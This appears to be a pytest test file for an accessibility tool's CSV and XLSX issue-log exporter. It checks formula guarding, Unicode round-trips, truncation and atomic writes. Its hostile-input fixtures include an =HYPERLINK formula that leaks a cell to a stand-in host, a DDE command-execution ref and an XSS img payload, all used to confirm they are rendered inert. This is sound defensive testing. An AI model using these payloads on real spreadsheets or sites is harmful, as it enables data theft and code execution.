"""Issue log exports: hostile text round-trips through CSV and XLSX; writes are whole or nothing."""

from __future__ import annotations

import csv
import json
import shutil
import sqlite3
import tempfile
import uuid
import zipfile
from datetime import date, datetime
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from ccassure.domain.document import Attachment, Issue, Occurrence, Retest
from ccassure.domain.issue_log import STATUS_LABELS
from ccassure.interop.issue_columns import (
    ISSUE_COLUMNS,
    RETEST_COLUMNS,
    guard_formula,
    unguard_formula,
)
from ccassure.interop.issue_export import MAX_CELL_TEXT, TRUNCATED
from ccassure.services.context import Context
from ccassure.services.errors import ServiceError
from ccassure.store.issue_rows import IssueLogReader
from tests.conftest import CORE, PROGRAMME, run_cli

HOSTILE = (
    'comma, "double quotes", and a trailing comma,',
    "line one\nline two\r\nline three\rline four",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "+SUM(1+1)",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1 after a tab",
    "\r=1+1 after a carriage return",
    "'=looks guarded already",
    "مرحبا بالعالم: نص من اليمين إلى اليسار",
    "\u202eoverride\u202c and \u200fmark",
    "Cafe\u0301 na\u0308ive combining marks",
    "emoji 👩🏽‍🦯 🦻 ♿️ 🇬🇧",
    "Łukasz Żółć",
    "Nguyễn Thị Minh",
    "<img src=x onerror=alert(1)> & <b>markup</b>",
    "#N/A",
    "  leading and trailing spaces  ",
    "bell\x07 and escape\x1b[31m",
)
TEXT_FIELDS = (
    "title", "description", "status_reason", "assistive_tech", "at_version", "os", "browser",
    "screen", "steps", "expected", "actual", "rule_id", "url",
)  # fmt: skip
SHOT_NAMES = ("screen, one.png", "=evil().png", "Żółć 画面.png")


def hostile_issues(shots: list[str]) -> list[Issue]:
    issues = []
    for n in range(len(HOSTILE) + 1):  # each text in every field, on some issue
        texts = {f: HOSTILE[(n + i) % len(HOSTILE)] for i, f in enumerate(TEXT_FIELDS)}
        issues.append(
            Issue(
                ref=f"H-{n + 1}",
                **texts,
                criteria=("1.4.3", "2.1.1")[: 1 + n % 2],
                severity=("blocker", "critical", "serious", "moderate", "minor")[n % 5],
                status=("open", "wont_fix", "retest_failed")[n % 3],
                source=("manual", "axe")[n % 2],
                needs_review=n % 2 == 1,
                found_on=date(2026, 1, 1 + n) if n % 4 else None,
                screenshots=tuple(shots[: n % 4]),
                retests=tuple(
                    Retest(
                        tested_on=date(2026, 2, 1 + k),
                        outcome=("passed", "failed", "cannot_test")[k % 3],
                        tester=HOSTILE[(n + k + 13) % len(HOSTILE)],
                        assistive_tech="NVDA 2025.3",
                        notes=HOSTILE[(n + k) % len(HOSTILE)],
                    )
                    for k in range(n % 3)
                ),
                occurrences=tuple(
                    Occurrence(target=f"#el{k}", resolved=k % 2 == 0) for k in range(n % 4)
                ),
            )
        )
    issues.append(Issue(ref="=cmd|' /C calc'!A0", title="ref itself hostile", severity="minor"))
    issues.append(Issue(ref="LONG-1", title="long", severity="minor", description="x" * 40_000))
    return issues


@pytest.fixture
def log(context: Context) -> tuple[int, list[Issue], dict[str, str]]:
    """An accessibility assessment holding hostile issues with retests, occurrences, shots."""
    service = context.assessments
    draft = service.document(service.create("accessibility", "Exports", PROGRAMME, CORE))
    attachments = [Attachment.of(name, "image/png", name.encode()) for name in SHOT_NAMES]
    issues = hostile_issues([a.sha256 for a in attachments])
    document = draft.model_copy(update={"issues": tuple(issues), "attachments": tuple(attachments)})
    assessment_id = service.add_document(document, str(uuid.uuid4()), 1)
    return assessment_id, issues, {a.sha256: a.name for a in attachments}


def summary_line(retest: Retest) -> str:
    notes = " / ".join(line for line in retest.notes.splitlines() if line.strip())
    tester = " / ".join(line for line in retest.tester.splitlines() if line.strip())
    parts = [str(retest.tested_on), tester or "-", retest.assistive_tech or "-"]
    return " · ".join([*parts, retest.outcome.replace("_", " "), *([notes] if notes else [])])


def expected_row(issue: Issue, names: dict[str, str]) -> dict[str, Any]:
    return {
        "Ref": issue.ref,
        **{column.heading: getattr(issue, field) for column, field in _text_columns()},
        "WCAG criteria": " ".join(issue.criteria),
        "Severity": issue.severity,
        "Status": STATUS_LABELS[issue.status],
        "Source": issue.source,
        "Needs review": "yes" if issue.needs_review else "no",
        "Found on": issue.found_on,
        "Screenshots": "\n".join(names[sha] for sha in issue.screenshots),
        "Occurrences": len(issue.occurrences),
        "Occurrences resolved": sum(o.resolved for o in issue.occurrences),
        "Retest history": "\n".join(summary_line(r) for r in issue.retests),
    }


def _text_columns() -> list[tuple[Any, str]]:
    by_heading = {
        "Title": "title", "Description": "description", "Status reason": "status_reason",
        "Assistive technology": "assistive_tech", "AT version": "at_version", "OS": "os",
        "Browser": "browser", "Screen": "screen", "Steps to reproduce": "steps",
        "Expected": "expected", "Actual": "actual", "Axe rule": "rule_id", "Page URL": "url",
    }  # fmt: skip
    return [(c, by_heading[c.heading]) for c in ISSUE_COLUMNS if c.heading in by_heading]


def by_ref_number(issue: Issue) -> tuple[str, int]:
    head, _, tail = issue.ref.rpartition("-")
    return (head, int(tail)) if tail.isdigit() else (issue.ref, 0)


def test_csv_round_trips_every_field_of_hostile_text(
    context: Context, log: Any, tmp_path: Path
) -> None:
    assessment_id, issues, names = log
    target = tmp_path / "issues.csv"
    assert context.issue_export.export_issues(assessment_id, "csv", target) == len(issues)
    raw = target.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs to read UTF-8
    with target.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert list(rows[0]) == [c.heading for c in ISSUE_COLUMNS]
    assert [r["Ref"] for r in rows] == [  # by ref, numbers as numbers: H-2 before H-10
        guard_formula(i.ref) for i in sorted(issues, key=by_ref_number)
    ]
    for row in rows:
        issue = next(i for i in issues if guard_formula(i.ref) == row["Ref"])
        for heading, value in expected_row(issue, names).items():
            text = "" if value is None else value.isoformat() if isinstance(value, date) else value
            assert unguard_formula(row[heading]) == str(text), (issue.ref, heading)
            if isinstance(text, str) and text and text[0] in "=+-@\t\r":
                assert row[heading] == "'" + text  # shown as text, never evaluated


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ('=HYPERLINK("x")', '\'=HYPERLINK("x")'),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'=1", "''=1"),
        ("'plain", "'plain"),
        ("a=1", "a=1"),
        ("", ""),
        ("'", "'"),
    ],
)
def test_formula_guard_is_exactly_reversible(text: str, shown: str) -> None:
    assert guard_formula(text) == shown
    assert unguard_formula(shown) == text


def sheet_value(value: Any) -> Any:
    if not isinstance(value, str):
        return value
    text = value.replace("\r\n", "\n").replace("\r", "\n")
    text = "".join("\ufffd" if ord(c) < 32 and c not in "\t\n" else c for c in text)
    return text[: MAX_CELL_TEXT - len(TRUNCATED)] + TRUNCATED if len(text) > MAX_CELL_TEXT else text


def test_xlsx_holds_every_field_with_formulas_as_text(
    context: Context, log: Any, tmp_path: Path
) -> None:
    assessment_id, issues, names = log
    target = tmp_path / "issues.xlsx"
    assert context.issue_export.export_issues(assessment_id, "xlsx", target) == len(issues)
    book = openpyxl.load_workbook(target)
    assert book.sheetnames == ["Issues", "Retests"]
    sheet = book["Issues"]
    assert sheet.freeze_panes == "B2"
    assert [c.value for c in sheet[1]] == [c.heading for c in ISSUE_COLUMNS]
    assert all(c.font.bold for c in sheet[1])
    assert sheet.column_dimensions["C"].width == 60  # description
    headings = [c.heading for c in ISSUE_COLUMNS]
    refs = []
    for cells in sheet.iter_rows(min_row=2):
        got = {h: c for h, c in zip(headings, cells, strict=False)}
        issue = next(i for i in issues if i.ref == got["Ref"].value)
        refs.append(issue.ref)
        for heading, value in expected_row(issue, names).items():
            cell = got[heading]
            assert cell.data_type != "f", (issue.ref, heading)
            want = "" if value is None else sheet_value(value)
            if isinstance(want, date):
                assert cell.value == datetime(want.year, want.month, want.day)
                assert cell.number_format == "yyyy-mm-dd"
            else:
                assert (cell.value if cell.value is not None else "") == want, (issue, heading)
            if isinstance(value, str) and value and (value[0] in "=+-@\t\r" or value == "#N/A"):
                assert cell.data_type == "s" and cell.quotePrefix, (issue.ref, heading)
            if isinstance(want, str) and "\n" in want:
                assert cell.alignment.wrap_text
    assert refs == [i.ref for i in sorted(issues, key=by_ref_number)]
    long = next(c for c in sheet["C"] if c.value and c.value.startswith("xxx"))
    assert len(long.value) == MAX_CELL_TEXT and long.value.endswith(TRUNCATED)

    retests = list(book["Retests"].iter_rows(values_only=True))
    assert list(retests[0]) == [c.heading for c in RETEST_COLUMNS]
    want_retests = [
        (i.ref, r) for i in sorted(issues, key=by_ref_number) for r in sorted(
            i.retests, key=lambda r: r.tested_on)
    ]  # fmt: skip
    assert len(retests) - 1 == len(want_retests) > 5
    for row, (ref, retest) in zip(retests[1:], want_retests, strict=True):
        tested_on = datetime(retest.tested_on.year, retest.tested_on.month, retest.tested_on.day)
        assert row[:3] == (ref, tested_on, retest.outcome.replace("_", " "))
        texts = (retest.tester, retest.assistive_tech, retest.notes)
        assert row[3:] == tuple(sheet_value(text) or None for text in texts)


def test_log_reads_the_same_in_small_batches(context: Context, log: Any) -> None:
    assessment_id, issues, _ = log
    reader = IssueLogReader(context.store.reader())
    statements: list[str] = []
    reader_db: sqlite3.Connection = context.store.reader().db
    reader_db.set_trace_callback(statements.append)
    try:
        with reader.snapshot(assessment_id, batch_size=4) as small:
            entries = list(small.entries)
            assert small.total == len(entries) == len(issues)
    finally:
        reader_db.set_trace_callback(None)
    with reader.snapshot(assessment_id) as whole:
        assert list(whole.entries) == entries
    batches = -(-len(issues) // 4)
    assert sum("FROM retest" in s for s in statements) == batches  # one lookup per batch
    assert sum("FROM occurrence" in s for s in statements) == batches
    assert not reader_db.in_transaction  # the snapshot's read transaction is over


def test_refusals_are_clear_and_change_nothing(context: Context, log: Any, tmp_path: Path) -> None:
    assessment_id, _, _ = log
    export = context.issue_export.export_issues
    dpia = context.assessments.create("dpia", "A DPIA", PROGRAMME, CORE)
    existing = tmp_path / "old.csv"
    existing.write_text("keep me")
    for args, message in (
        ((999, "csv", tmp_path / "a.csv"), "no assessment with id 999"),
        ((dpia, "csv", tmp_path / "a.csv"), "is a DPIA, not an accessibility assessment"),
        ((assessment_id, "pdf", tmp_path / "a.pdf"), "unknown format 'pdf'"),
        ((assessment_id, "csv", tmp_path / "nope" / "a.csv"), "no such folder"),
        ((assessment_id, "csv", existing / "a.csv"), "is not a folder"),
        ((assessment_id, "csv", tmp_path), "is a folder"),
        ((assessment_id, "csv", existing), "already exists; use --force"),
        ((assessment_id, "csv", context.store.path), "is the store itself"),
    ):
        with pytest.raises(ServiceError, match=message):
            export(*args, force=args[2] == context.store.path)
    assert existing.read_text() == "keep me"
    assert not list(tmp_path.glob("a.*")) and not list(tmp_path.glob(".*.part"))
    assert export(assessment_id, "csv", existing, force=True) > 0
    assert existing.read_text(encoding="utf-8-sig").startswith("Ref,Title")


def test_permission_denied_is_one_clear_line(
    context: Context, log: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def refuse(*_args: object, **_kwargs: object) -> None:
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr(tempfile, "mkstemp", refuse)  # root ignores folder permissions
    with pytest.raises(ServiceError, match="you do not have permission to write there"):
        context.issue_export.export_issues(log[0], "csv", tmp_path / "a.csv")


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_cancelled_export_leaves_the_old_file_and_no_temporary_files(
    context: Context, log: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, fmt: str
) -> None:
    scratch = tmp_path / "scratch"  # where openpyxl keeps its sheet files while writing
    scratch.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(scratch))
    monkeypatch.setattr("ccassure.services.issue_export.PROGRESS_EVERY", 5)
    folder = tmp_path / "out"
    folder.mkdir()
    target = folder / f"issues.{fmt}"
    target.write_bytes(b"the previous export")
    seen: list[tuple[int, int]] = []

    def progress(done: int, total: int) -> None:
        seen.append((done, total))
        if done >= 10:
            raise KeyboardInterrupt  # as a user's cancel would

    with pytest.raises(KeyboardInterrupt):
        context.issue_export.export_issues(log[0], fmt, target, force=True, progress=progress)
    assert seen == [(0, len(log[1])), (5, len(log[1])), (10, len(log[1]))]
    assert target.read_bytes() == b"the previous export"
    assert [p.name for p in folder.iterdir()] == [target.name]
    assert list(scratch.iterdir()) == []
    done: list[tuple[int, int]] = []
    context.issue_export.export_issues(log[0], fmt, target, True, lambda *p: done.append(p))
    assert done[-1] == (len(log[1]), len(log[1])) and list(scratch.iterdir()) == []


def cli_ok(store: Path, *args: str) -> Any:
    result = run_cli("--store", str(store), *args)
    assert result.returncode == 0 and "Traceback" not in result.stderr, result.stderr
    return result


def cli_refused(store: Path, text: str, *args: str) -> None:
    result = run_cli("--store", str(store), *args)
    assert result.returncode == 2, (result.stdout, result.stderr)
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("ccassure: ") and text in lines[0], lines


def test_cli_exports_the_demo_log_and_refuses_bad_input(demo_store: Path, tmp_path: Path) -> None:
    store = tmp_path / "demo.db"
    shutil.copy(demo_store, store)
    listing = json.loads(cli_ok(store, "list", "--json").stdout)
    a11y = str(next(a["id"] for a in listing if a["kind"] == "accessibility"))
    dpia = str(next(a["id"] for a in listing if a["kind"] == "dpia"))
    target = tmp_path / "log.csv"
    result = cli_ok(store, "export-issues", a11y, "--format", "csv", "-o", str(target), "--json")
    assert json.loads(result.stdout) == {"issues": 37, "file": str(target), "format": "csv"}
    with target.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == 37 and rows[0]["Ref"] == "AT-0001"
    assert sum(bool(r["Retest history"]) for r in rows) > 0
    book_path = tmp_path / "log.xlsx"
    text = cli_ok(store, "export-issues", a11y, "--format", "xlsx", "-o", str(book_path)).stdout
    assert text.strip() == f"Exported 37 issues of assessment {a11y} to {book_path}"
    book = openpyxl.load_workbook(book_path, read_only=True)
    assert len(list(book["Issues"].iter_rows(values_only=True))) == 38
    book.close()
    before = target.read_bytes()
    command = ("export-issues", "--format", "csv", "-o")
    cli_refused(store, "no assessment with id 999", "export-issues", "999", *command[1:],
                str(target))  # fmt: skip
    cli_refused(store, "not an accessibility assessment", "export-issues", dpia, *command[1:],
                str(tmp_path / "d.csv"))  # fmt: skip
    cli_refused(store, "already exists; use --force", "export-issues", a11y, *command[1:],
                str(target))  # fmt: skip
    cli_refused(store, "no such folder", "export-issues", a11y, *command[1:],
                str(tmp_path / "missing" / "x.csv"))  # fmt: skip
    cli_refused(store, "invalid choice: 'pdf'", "export-issues", a11y, "--format", "pdf", "-o",
                str(tmp_path / "x.pdf"))  # fmt: skip
    assert target.read_bytes() == before
    cli_ok(store, "export-issues", a11y, *command[1:], str(target), "--force")


@pytest.mark.slow
def test_cli_exports_100000_issues(tmp_path: Path) -> None:
    store = tmp_path / "big.db"
    cli_ok(store, "--data-dir", str(tmp_path / "data"), "demo", "--scale", "100000")
    listing = json.loads(cli_ok(store, "list", "--json").stdout)
    a11y = str(next(a["id"] for a in listing if a["kind"] == "accessibility"))
    for fmt in ("csv", "xlsx"):
        target = tmp_path / f"big.{fmt}"
        result = cli_ok(store, "export-issues", a11y, "--format", fmt, "-o", str(target), "--json")
        assert json.loads(result.stdout)["issues"] == 100_037
    with (tmp_path / "big.csv").open(encoding="utf-8-sig", newline="") as handle:
        assert sum(1 for _ in csv.reader(handle)) == 100_038
    with zipfile.ZipFile(tmp_path / "big.xlsx") as book:
        assert book.read("xl/worksheets/sheet1.xml").count(b"<row ") == 100_038
